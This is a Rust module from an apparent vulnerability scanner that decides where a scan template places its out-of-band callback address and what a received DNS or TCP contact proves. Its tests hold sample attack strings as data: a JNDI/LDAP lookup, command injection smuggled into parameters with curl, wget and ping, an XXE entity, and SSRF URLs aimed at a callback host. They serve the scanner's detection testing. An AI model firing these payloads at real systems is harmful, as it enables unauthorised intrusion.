//! Where a template places an address of ours, and what a packet that comes there proves. Pure.
//!
//! The format was made for names under a domain whose owner answers everything. Here it is an address and a port, and
//! nothing answers: the packet itself is all there is. Had a name stood in the address's place, it would have been
//! looked up first, so a contact proves `dns`; it proves what the URL's scheme says where it came by TCP and all URLs
//! of the template say the same. It never proves what the target would have gone on to say.

use vedette_protocol::finding::Transport;

use super::{
    dsl::syntax::Expr,
    extractor::Read,
    feature::Feature,
    form::Template,
    matcher::{Condense, Look},
    operators::Operators,
};

/// What a template needs to be told of its callbacks.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum CallsBack {
    /// It places no address of ours.
    #[default]
    Never,
    /// A contact, which proves `dns` and this.
    Contact(Option<&'static str>),
    /// A name under which lookups arrive: no port can stand where it places the address.
    Name,
    /// What the target says when it is answered.
    Answer,
}

impl CallsBack {
    /// What a template needs.
    pub fn of(template: &Template) -> Self {
        let texts: Vec<&str> = placed_in(template).collect();
        let judges_by_answer = template
            .blocks
            .iter()
            .any(|block| needs_answer(block.operators()));
        let judges_at_all = template
            .blocks
            .iter()
            .any(|block| names(block.operators(), "interactsh_"));
        let places: Vec<Place> = texts.iter().flat_map(|text| places(text)).collect();
        if places.is_empty() && !judges_at_all {
            return Self::Never;
        }
        if judges_by_answer {
            return Self::Answer;
        }
        let mut schemes: Vec<Option<&'static str>> = places.iter().filter_map(Place::scheme).collect();
        schemes.sort_unstable();
        schemes.dedup();
        match schemes.as_slice() {
            [] => Self::Name,
            [scheme] => Self::Contact(*scheme),
            [..] => Self::Contact(None),
        }
    }

    /// Whether contacts tell all that it needs to know.
    pub fn is_told_by_contacts(self) -> bool {
        matches!(self, Self::Contact(_))
    }

    /// What of it is not done, whatever this process may do.
    pub fn lacks(self) -> Option<Feature> {
        match self {
            Self::Never | Self::Contact(_) => None,
            Self::Name => Some(Feature::CallbackByName),
            Self::Answer => Some(Feature::CallbackAnswer),
        }
    }

    /// The protocols that a contact proves, as matchers call them.
    pub fn proven_by(self, over: Transport) -> Vec<&'static str> {
        match (self, over) {
            (Self::Contact(Some(scheme)), Transport::Tcp) => vec!["dns", scheme],
            _ => vec!["dns"],
        }
    }
}

/// A place where an address of ours stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Place {
    /// A connection can come of it, by the protocol that is spoken there as far as it is one that matchers name.
    Connects(Option<&'static str>),
    /// Only a lookup can.
    LooksUp,
}

impl Place {
    fn scheme(&self) -> Option<Option<&'static str>> {
        match self {
            Self::Connects(scheme) => Some(*scheme),
            Self::LooksUp => None,
        }
    }
}

/// The texts that are sent, as far as they place the address.
fn placed_in(template: &Template) -> impl Iterator<Item = &str> {
    let blocks = template.blocks.iter().flat_map(|block| {
        let values = block
            .payloads()
            .lists
            .iter()
            .flat_map(|(_, values)| values.iter());
        block.texts().into_iter().chain(values.map(String::as_str))
    });
    let variables = template.variables.iter().map(|(_, text)| text.as_str());
    blocks.chain(variables).filter(|text| text.contains(NAME))
}

fn places(text: &str) -> impl Iterator<Item = Place> + '_ {
    text.match_indices(NAME).map(|(at, _)| {
        // The braces around it, if it stands in some by itself.
        let before = text[..at].trim_end().strip_suffix("{{").unwrap_or(&text[..at]);
        let after = text[at + NAME.len()..].trim_start();
        place(before, after.strip_prefix("}}").unwrap_or(after))
    })
}

fn place(before: &str, after: &str) -> Place {
    let is_in_name = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | '\\' | '$' | '}');
    let begins = after.chars().next();
    let names_port = after.starts_with(':') && after[1..].starts_with(|c: char| c.is_ascii_digit());
    if names_port || begins.is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_')) {
        return Place::LooksUp;
    }
    let before = spelled_out(before);
    let word = before
        .rsplit(|c: char| c.is_whitespace() || "\"'`<>=(,|;&".contains(c))
        .next()
        .unwrap_or_default();
    if let Some((scheme, authority)) = word.rsplit_once("://") {
        return match authority.chars().next_back() {
            // Somebody's name before it, as in http://a@HOST.
            None | Some('@') => Place::Connects(spoken(scheme)),
            Some(_) => Place::LooksUp,
        };
    }
    let looks_up = word.ends_with('@') || word.ends_with(is_in_name);
    if looks_up || COMMANDS.contains(&command(&before)) {
        Place::LooksUp
    } else {
        Place::Connects(Some("http"))
    }
}

/// The end of a text in the clear: as it is once the target has decoded it.
fn spelled_out(text: &str) -> String {
    let cut = text.char_indices().rev().nth(LOOKED_AT).map_or(0, |(at, _)| at);
    let mut text = text[cut..].to_ascii_lowercase();
    for (written, meant) in [
        ("%3a", ":"),
        ("%2f", "/"),
        ("%20", " "),
        ("%60", "`"),
        ("%22", "\""),
        ("%27", "'"),
        ("+", " "),
        ("\\/", "/"),
        ("${ifs}", " "),
        ("$ifs", " "),
    ] {
        text = text.replace(written, meant);
    }
    text
}

/// The protocol of a scheme, as matchers call it; a scheme may stand behind others, as in `jar:http`.
fn spoken(scheme: &str) -> Option<&'static str> {
    let last = scheme
        .rsplit(|c: char| !c.is_ascii_alphanumeric())
        .next()
        .unwrap_or_default();
    match last {
        "http" | "https" | "" => Some("http"),
        "ldap" | "ldaps" => Some("ldap"),
        "ftp" => Some("ftp"),
        _ => None,
    }
}

/// The program of the command that ends here, if it is one.
fn command(before: &str) -> &str {
    let begun = before
        .rsplit(|c: char| "\"'`=(|;&\n".contains(c))
        .next()
        .unwrap_or_default();
    begun.split_whitespace().next().unwrap_or_default()
}

fn needs_answer(operators: &Operators) -> bool {
    ANSWERS.iter().any(|answer| names(operators, answer))
}

/// Whether matchers, or extractors whose results later requests use, name something that begins so.
fn names(operators: &Operators, beginning: &str) -> bool {
    let is_it = |name: &str| name.starts_with(beginning);
    let in_expressions = |expressions: &[Condense]| {
        expressions.iter().any(|expression| match expression {
            Condense::Open(text) => text.contains(beginning),
            Condense::Parsed(expr) => {
                let mut found = false;
                expr.walk(&mut |expr| found |= matches!(expr, Expr::Name(name) if is_it(name)));
                found
            }
        })
    };
    let by_matchers = operators.matchers.iter().any(|matcher| {
        is_it(&matcher.part) || matches!(&matcher.look, Look::Dsl(expressions) if in_expressions(expressions))
    });
    let by_extractors = operators.extractors.iter().any(|extractor| {
        let counts = extractor.internal || operators.matchers.is_empty();
        let named = match &extractor.read {
            Read::Fields(names) => names.iter().any(|name| is_it(name)),
            Read::Dsl(expressions) => in_expressions(expressions),
            Read::Regex(..) | Read::Json(_) | Read::XPath(..) => is_it(&extractor.part),
        };
        counts && named
    });
    by_matchers || by_extractors
}

/// As templates call the address.
const NAME: &str = "interactsh-url";
/// What only somebody who answers could hear.
const ANSWERS: [&str; 2] = ["interactsh_request", "interactsh_response"];
/// Programs that look names up, or send what has no port.
const COMMANDS: [&str; 6] = ["nslookup", "nslookup.exe", "ping", "ping6", "host", "dig"];
/// No URL or command that is looked at begins further back, in characters.
const LOOKED_AT: usize = 80;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_place_connects_where_a_port_can_stand() {
        let http = Some("http");
        for (text, expected) in [
            ("GET /fetch?u=http://{{interactsh-url}}/x HTTP/1.1", Some(http)),
            ("url=http%3a//{{interactsh-url}}", Some(http)),
            ("{\"u\":\"https:\\/\\/{{interactsh-url}}\"}", Some(http)),
            ("u=http://a.example@{{interactsh-url}}/", Some(http)),
            ("{{base64(\"`wget http://{{interactsh-url}}`\")}}", Some(http)),
            ("ip=127.0.0.1;curl {{interactsh-url}}&x=1", Some(http)),
            ("<host>{{interactsh-url}}</host>", Some(http)),
            ("Host: {{interactsh-url}}", Some(http)),
            (
                "<!ENTITY x SYSTEM \"ftp://{{interactsh-url}}/x\">",
                Some(Some("ftp")),
            ),
            ("${jndi:ldap://{{interactsh-url}}/a}", Some(Some("ldap"))),
            ("dict://{{interactsh-url}}", Some(None)),
            ("${jndi:ldap://${:-1}.${hostName}.uri.{{interactsh-url}}/a}", None),
            ("X-Forwarded-For: spoofed.{{interactsh-url}}", None),
            ("From: root@{{interactsh-url}}", None),
            ("cmd=nslookup+{{interactsh-url}}", None),
            ("\"glueSource\": \"ping {{interactsh-url}}\"", None),
            ("ping${IFS}-c${IFS}1${IFS}{{interactsh-url}}", None),
            ("' *; host {{interactsh-url}}; '", None),
            ("\\\\{{interactsh-url}}\\tmp\\x", None),
            ("http://{{interactsh-url}}:80/", None),
            ("http://{{interactsh-url}}.example/", None),
        ] {
            let found: Vec<_> = places(text).collect();
            let expected = expected.map_or(Place::LooksUp, Place::Connects);
            assert_eq!(found, [expected], "{text}");
        }
    }

    fn needed(placed: &str, matcher: &str) -> CallsBack {
        let text = format!(
            "id: x\ninfo: {{severity: info}}\nhttp:\n  - path: [\"{{{{BaseURL}}}}/?{placed}\"]\n    matchers: [{matcher}]\n"
        );
        super::super::form::parse_alone(text.as_bytes())
            .unwrap()
            .calls_back
    }

    #[test]
    fn what_a_template_needs_follows_from_what_it_places_and_asks_for() {
        let protocol = "{type: word, part: interactsh_protocol, words: [dns]}";
        let status = "{type: status, status: [200]}";
        assert_eq!(needed("a=1", status), CallsBack::Never);
        assert_eq!(
            needed("u=http://{{interactsh-url}}", protocol),
            CallsBack::Contact(Some("http"))
        );
        assert_eq!(
            needed(
                "u=http://{{interactsh-url}}&v=ldap://{{interactsh-url}}",
                protocol
            ),
            CallsBack::Contact(None)
        );
        assert_eq!(needed("u=a.{{interactsh-url}}", protocol), CallsBack::Name);
        for answer in [
            "{type: word, part: interactsh_request, words: [curl]}",
            "{type: dsl, dsl: ['contains(interactsh_request, \"curl\")']}",
        ] {
            assert_eq!(needed("u=http://{{interactsh-url}}", answer), CallsBack::Answer);
        }
    }

    #[test]
    fn a_contact_proves_a_lookup_and_a_connection_the_scheme() {
        let http = CallsBack::Contact(Some("http"));
        assert_eq!(http.proven_by(Transport::Tcp), ["dns", "http"]);
        assert_eq!(http.proven_by(Transport::Udp), ["dns"]);
        assert_eq!(CallsBack::Contact(None).proven_by(Transport::Tcp), ["dns"]);
    }
}
